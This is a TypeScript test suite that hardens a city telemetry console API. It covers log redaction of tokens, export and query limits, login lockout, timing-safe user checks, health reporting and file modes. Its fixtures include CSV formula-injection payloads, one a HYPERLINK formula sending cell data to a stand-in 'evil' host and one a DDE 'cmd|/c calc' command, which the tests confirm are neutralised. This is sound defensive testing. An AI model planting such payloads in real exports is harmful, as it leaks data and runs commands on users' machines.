/**
 * Attacks on the console API from the hardening run (issue 14), each performed the way a client
 * would and bounded: tokens in logged URLs, CSV formula injection (exports and open data),
 * /health while the store cannot write, exports over 1970–2100 and unbounded export queues,
 * parallel heavy history requests, login lockout and user-name probing by timing, and the modes
 * of the data files.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import pino from 'pino';
import WebSocket from 'ws';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnyTelemetryRecord } from '../../contract';
import { loadConfig } from '../../lib/config';
import { secureDataDir } from '../../lib/data-dir';
import { RegistryView } from '../../registry/registry';
import { openDuckDbStore } from '../../store/duckdb/index';
import type { TelemetryStore } from '../../store/types';
import { trackWrites } from '../../store/write-health';
import { tempDir, waitFor } from '../../testing/net';
import { writeTestRegistry } from '../../testing/registry-fixture';
import { buildApp } from './index';
import { csvCell } from './lib/csv';
import { loadOrCreateUsers } from './lib/users';
import { fixture } from './fixtures.test-data';
import { makeTestApi, startConsoleStack, testCity, USERS, type TestApi } from './test-support';

const H = (tok: string) => ({ authorization: `Bearer ${tok}` });

describe('tokens never reach the log (item 8)', () => {
  it('the live stream and downloads take one-time tickets; no token= or ticket value is logged', async () => {
    const lines: string[] = [];
    const dest = new Writable({
      write(chunk: Buffer, _e, cb) {
        lines.push(chunk.toString());
        cb();
      },
    });
    const stack = await startConsoleStack('console-tokens-', { jwtSecret: 'tokens-test-secret', log: pino({ level: 'info' }, dest) });
    const base = `http://127.0.0.1:${stack.api.port}`;
    try {
      const login = await fetch(`${base}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'op', password: 'op-pass' }) });
      const { token } = (await login.json()) as { token: string };
      const tk = (await (
        await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })
      ).json()) as { ticket: string; url: string };
      const ws = new WebSocket(`ws://127.0.0.1:${stack.api.port}${tk.url}`);
      const first = await new Promise<string>((res, rej) => {
        ws.once('message', (d) => res((d as Buffer).toString('utf8')));
        ws.once('error', rej);
      });
      expect(JSON.parse(first).type).toBe('snapshot');
      ws.close();
      // an old client still putting the session token in the URL is refused, and the token is not logged
      const old = new WebSocket(`ws://127.0.0.1:${stack.api.port}/api/live?token=${token}`);
      old.on('error', () => undefined);
      expect(await new Promise<number>((res) => old.on('unexpected-response', (_q, r) => res(r.statusCode ?? 0)))).toBe(401);
      const dl = await fetch(`${base}/api/exports/00000000-0000-4000-8000-000000000000/download?token=${token}`);
      expect(dl.status).toBe(401);
      // a ticket is for one path only
      const other = (await (
        await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })
      ).json()) as { ticket: string };
      expect((await fetch(`${base}/api/exports/00000000-0000-4000-8000-000000000000/download?ticket=${other.ticket}`)).status).toBe(401);
      expect((await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/devices' }) })).status).toBe(
        400,
      );
      await waitFor(() => lines.some((l) => l.includes('/api/live?ticket=[redacted]')), 5000, 20, 'request lines logged');
    } finally {
      await stack.stop();
    }
    const log = lines.join('');
    expect(log).toMatch(/token=\[redacted\]/); // the attempts were logged, redacted
    expect(log).not.toMatch(/token=(?!\[redacted\])/);
    expect(log).not.toMatch(/ticket=(?!\[redacted\])/);
    expect(log).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\./); // no JWT anywhere
  });
});

describe('API abuse and data hygiene (items 4, 5, 9)', () => {
  let t: TestApi;
  let plan: string;
  let op: string;
  const fx = fixture();
  beforeAll(async () => {
    t = await makeTestApi();
    const w = await t.store.writeBatch(fx.records);
    expect(w.written).toBe(fx.records.length);
    [plan, op] = await Promise.all([t.token('plan'), t.token('op')]);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('an export over 1970–2100 is refused with E_QUERY_RANGE_TOO_LONG; each kind has its range limit', async () => {
    for (const kind of ['track', 'series', 'plate-counts', 'events']) {
      const payload = { kind, format: 'csv', from: 0, to: 4_102_444_799_000, ...(kind === 'series' ? { stream: 'air', field: 'pm25' } : {}) };
      const r = await t.app.inject({ method: 'POST', url: '/api/exports', headers: H(plan), payload });
      expect(r.statusCode).toBe(400);
      expect(r.json()).toMatchObject({ code: 'E_QUERY_RANGE_TOO_LONG' });
      expect(r.json().message).toMatch(/at most \d+ days/);
    }
    expect((await t.app.inject({ url: '/api/exports', headers: H(plan) })).json().jobs).toHaveLength(0);
  });

  it('export jobs are limited per user (429), cancellable with progress, and the user can export again', async () => {
    const from = fx.t0;
    const to = from + 31 * 86_400_000; // a month of every truck: slow enough to cancel
    const post = (tok: string) => t.app.inject({ method: 'POST', url: '/api/exports', headers: H(tok), payload: { kind: 'track', format: 'csv', from, to } });
    const jobs = [];
    for (let i = 0; i < 3; i++) {
      const r = await post(op);
      expect(r.statusCode).toBe(202);
      jobs.push(r.json() as { id: string });
    }
    const over = await post(op);
    expect(over.statusCode).toBe(429);
    expect(over.json().code).toBe('E_EXPORT_QUEUE_FULL');
    expect((await post(plan)).statusCode).toBe(202); // another user is not affected
    for (const j of jobs) {
      const c = await t.app.inject({ method: 'POST', url: `/api/exports/${j.id}/cancel`, headers: H(op) });
      expect([200, 409]).toContain(c.statusCode);
    }
    const states = await Promise.all(jobs.map(async (j) => (await t.app.inject({ url: `/api/exports/${j.id}`, headers: H(op) })).json().state));
    expect(states.every((s) => s === 'cancelled' || s === 'done')).toBe(true);
    expect(states).toContain('cancelled');
    expect((await post(op)).statusCode).toBe(202); // slots freed
    // someone else's job cannot be cancelled
    const mine = (await t.app.inject({ url: '/api/exports', headers: H(plan) })).json().jobs[0];
    expect((await t.app.inject({ method: 'POST', url: `/api/exports/${mine.id}/cancel`, headers: H(op) })).statusCode).toBe(404);
  });

  it('parallel heavy history requests from one user are capped (429 E_QUERY_TOO_MANY), and the slots come back', async () => {
    // a year-long series takes a while: the real store, each series query held 300 ms
    const slow = Object.create(t.store) as TelemetryStore;
    slow.series = async (q) => {
      await new Promise((r) => setTimeout(r, 300));
      return t.store.series(q);
    };
    const s = await makeTestApi({ store: slow });
    try {
      const tok = await s.token('plan');
      const url = `/api/history/series?stream=air&field=pm25&from=${fx.t0}&to=${fx.t1}&windowMs=60000`;
      const rs = await Promise.all(Array.from({ length: 6 }, () => s.app.inject({ url, headers: H(tok) })));
      expect(rs.map((r) => r.statusCode).sort()).toEqual([200, 200, 200, 200, 429, 429]);
      for (const r of rs.filter((x) => x.statusCode === 429)) expect(r.json().code).toBe('E_QUERY_TOO_MANY');
      expect((await s.app.inject({ url, headers: H(tok) })).statusCode).toBe(200); // the slots came back
      expect((await s.app.inject({ url, headers: H(await s.token('op')) })).statusCode).toBe(200);
    } finally {
      await s.app.close();
      await s.store.close(); // makeTestApi's own (unused) store; t.store stays open
      s.registry.close();
    }
    // a series over all stations must fit the bucket budget in total
    const wide = await t.app.inject({ url: `/api/history/series?stream=air&field=pm25&from=0&to=${300 * 86_400_000}&windowMs=60000`, headers: H(plan) });
    expect(wide.statusCode).toBe(400);
    expect(wide.json().code).toBe('E_QUERY_TOO_MANY_BUCKETS');
  });

  it('CSV cells starting with = + - @ tab or CR are neutralised; numbers stay numbers', () => {
    for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(v).replace(/^"|"$/g, '')).toMatch(/^'/);
    expect(csvCell(-94.43)).toBe('-94.43');
    expect(csvCell('Centro')).toBe('Centro');
  });

  it('failed logins lock out that user from that address only: another user logs in from the same address', async () => {
    const small = await makeTestApi({ loginRateLimit: 3 });
    try {
      const login = (username: string, password: string) => small.app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password } });
      for (let i = 0; i < 3; i++) expect((await login('op', 'wrong')).statusCode).toBe(401);
      const locked = await login('op', 'op-pass');
      expect(locked.statusCode).toBe(429);
      expect(locked.json().code).toBe('E_REQUEST_RATE_LIMITED');
      expect(locked.headers['retry-after']).toBeDefined();
      expect((await login('plan', 'plan-pass')).statusCode).toBe(200); // same address, right password
    } finally {
      await small.close();
    }
  });
});

describe('exports and open data in CSV never carry a live formula (item 9)', () => {
  it('a district and a bin id like =HYPERLINK(…) reach the CSV as text', async () => {
    const dir = tempDir('console-csv-');
    const file = writeTestRegistry(dir, [
      { id: 'air-77', kind: 'air', model: 'sim-aq', district: '=HYPERLINK("http://evil/?"&A1)', status: 'active', location: { lat: 18.14, lon: -94.43 }, intervals: { dataS: 60, statusS: 300 } },
    ]);
    const registry = new RegistryView(file);
    const store = await openDuckDbStore({ file: ':memory:' });
    await store.init();
    const app = await buildApp({ cfg: loadConfig({}, { DATA_DIR: dir }), store, registry, city: testCity(), opsDbFile: ':memory:', users: USERS, jwtSecret: 'csv-secret' });
    try {
      const now = Date.now();
      const t0 = Math.floor(now / 3_600_000) * 3_600_000 - 3_600_000;
      const recs: AnyTelemetryRecord[] = [
        { deviceId: 'air-77', kind: 'air', stream: 'air', ts: t0 + 60_000, receivedAt: t0 + 61_000, late: false, district: 'x', payload: { ts: t0 + 60_000, windowS: 60, pm25: 12, pm10: 20 } },
        {
          deviceId: 'truck-01',
          kind: 'truck',
          stream: 'event',
          ts: t0 + 120_000,
          receivedAt: t0 + 120_000,
          late: false,
          district: 'Centro',
          payload: { ts: t0 + 120_000, type: 'bin_lift', binId: '=cmd|/c calc!A1', lat: 18.14, lon: -94.44 },
        },
      ];
      await store.writeBatch(recs);
      const open = await app.inject({ url: `/api/open/air?format=csv&deviceIds=air-77&from=${t0}&to=${t0 + 3_600_000}` });
      expect(open.statusCode).toBe(200);
      expect(open.body).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`);
      expect(open.body).toMatch(/,-94\.43,/); // longitude still a number
      const tok = (await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'plan', password: 'plan-pass' } })).json().token;
      const job = (await app.inject({ method: 'POST', url: '/api/exports', headers: H(tok), payload: { kind: 'events', format: 'csv', from: t0, to: t0 + 3_600_000 } })).json();
      await app.exportJobs.wait(job.id);
      const tk = (await app.inject({ method: 'POST', url: '/api/auth/ticket', headers: H(tok), payload: { path: `/api/exports/${job.id}/download` } })).json();
      const csv = (await app.inject({ url: tk.url })).body;
      expect(csv).toContain("'=cmd|/c calc!A1");
      expect(csv).not.toMatch(/(^|,)=cmd/m);
    } finally {
      await app.close();
      await store.close();
      registry.close();
    }
  });
});

describe('/health while the store cannot write (item 5)', () => {
  it('is 503 naming the store and ingest while writes fail, readiness stays 200 (reads work), both 200 once writes succeed', async () => {
    const dir = tempDir('console-health-');
    const registry = new RegistryView(writeTestRegistry(dir));
    const real = await openDuckDbStore({ file: path.join(dir, 'telemetry.duckdb') });
    await real.init();
    // the disk fills up: the real DuckDB store answers queries but refuses writes (what DuckDB throws then)
    let full = true;
    const disk = Object.create(real) as TelemetryStore;
    disk.writeBatch = async (records) => {
      if (full) throw Object.assign(new Error('IO Error: could not write file "telemetry.duckdb.wal": No space left on device'), { code: 'E_STORE_WRITE' });
      return real.writeBatch(records);
    };
    const store = trackWrites(disk);
    const app = await buildApp({ cfg: loadConfig({}, { DATA_DIR: dir }), store, registry, opsDbFile: ':memory:', users: USERS, jwtSecret: 'health-secret' });
    try {
      expect((await app.inject('/health')).statusCode).toBe(200);
      const fx = fixture();
      await expect(store.writeBatch(fx.records.slice(0, 10))).rejects.toThrow(/No space left/); // what ingest's batch writer sees
      const h = await app.inject('/health');
      expect(h.statusCode).toBe(503);
      const body = h.json();
      expect(body.status).toBe('degraded');
      expect(body.failing).toEqual(['store', 'ingest']);
      expect(body.store).toMatchObject({ ok: false, lastWriteAt: null });
      expect(body.store.writeFailingSince).toBeGreaterThan(0);
      expect(body.store.detail).toMatch(/writes failing since/);
      expect(body.ingest.writing).toBe(false);
      expect(body.api).toMatchObject({ ok: true, opsDb: true });
      const ready = await app.inject('/health/ready');
      expect(ready.statusCode).toBe(200);
      expect(ready.json()).toEqual({ ready: true, failing: [] });

      full = false;
      await store.writeBatch(fx.records.slice(0, 10));
      const ok = await app.inject('/health');
      expect(ok.statusCode).toBe(200);
      expect(ok.json().store.lastWriteAt).toBeGreaterThan(0);
      expect(ok.json().ingest.writing).toBe(true);
      // a store that cannot be read at all: not ready
      await real.close();
      expect((await app.inject('/health/ready')).statusCode).toBe(503);
    } finally {
      await app.close();
      registry.close();
    }
  });
});

describe('user names cannot be probed by timing (item 9)', () => {
  it('an unknown user costs a scrypt run at the real users’ cost', { timeout: 60_000 }, async () => {
    const dir = tempDir('console-timing-');
    const env = { CONSOLE_PASSWORD_OPERADOR: 'op-secret-1', CONSOLE_PASSWORD_PLANEADOR: 'pl-secret-1', CONSOLE_PASSWORD_ADMIN: 'ad-secret-1' };
    const users = await loadOrCreateUsers(dir, env, () => undefined); // production cost (16384)
    // known and unknown alternate, so a machine whose load changes during the test slows both alike
    const ms: Record<string, number[]> = { operador: [], nadie: [] };
    for (let i = 0; i < 9; i++) {
      for (const u of ['operador', 'nadie']) {
        const t0 = performance.now();
        expect(await users.verify(u, `wrong-${i}`)).toBeNull();
        ms[u]!.push(performance.now() - t0);
      }
    }
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1]!;
    const known = median(ms.operador!);
    const unknown = median(ms.nadie!);
    expect(unknown).toBeGreaterThan(known * 0.5);
    expect(await users.verify('operador', 'op-secret-1')).toMatchObject({ username: 'operador' });
  });
});

describe('data files are not world-readable (item 9)', () => {
  it('DATA_DIR is 0700 and the telemetry DB, ops DB (plates, audit, sessions), users and exports are 0600', async () => {
    const dir = path.join(tempDir('console-modes-'), 'data');
    fs.mkdirSync(dir, { mode: 0o755 });
    fs.writeFileSync(path.join(dir, 'old-audit.log'), 'left by an older version\n', { mode: 0o644 });
    const prevUmask = process.umask();
    try {
      expect(secureDataDir(dir).tightened).toBe(2);
      const registry = new RegistryView(writeTestRegistry(dir));
      const store = await openDuckDbStore({ file: path.join(dir, 'telemetry.duckdb') });
      await store.init();
      const cfg = loadConfig({}, { DATA_DIR: dir });
      const app = await buildApp({ cfg, store, registry, city: testCity(), jwtSecret: 'modes-secret' }); // users.json, ops.duckdb, exports/ under DATA_DIR
      const fx = fixture();
      await store.writeBatch(fx.records);
      const pw = fs.readFileSync(path.join(dir, 'initial-passwords.txt'), 'utf8');
      const planPw = /planeador \(planner\): (\S+)/.exec(pw)![1]!;
      const tok = (await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'planeador', password: planPw } })).json().token;
      const job = (await app.inject({ method: 'POST', url: '/api/exports', headers: H(tok), payload: { kind: 'track', format: 'csv', from: fx.t0, to: fx.t1, deviceIds: ['truck-01'] } })).json();
      await app.exportJobs.wait(job.id);
      await app.close();
      await store.close();
      registry.close();
      const bad: string[] = [];
      const walk = (p: string) => {
        const st = fs.statSync(p);
        if (st.mode & 0o077) bad.push(`${path.relative(dir, p) || '.'} ${(st.mode & 0o777).toString(8)}`);
        if (st.isDirectory()) for (const e of fs.readdirSync(p)) walk(path.join(p, e));
      };
      walk(dir);
      expect(fs.readdirSync(dir)).toEqual(expect.arrayContaining(['telemetry.duckdb', 'ops.duckdb', 'users.json', 'exports', 'old-audit.log']));
      expect(bad).toEqual([]);
    } finally {
      process.umask(prevUmask);
    }
  });
});
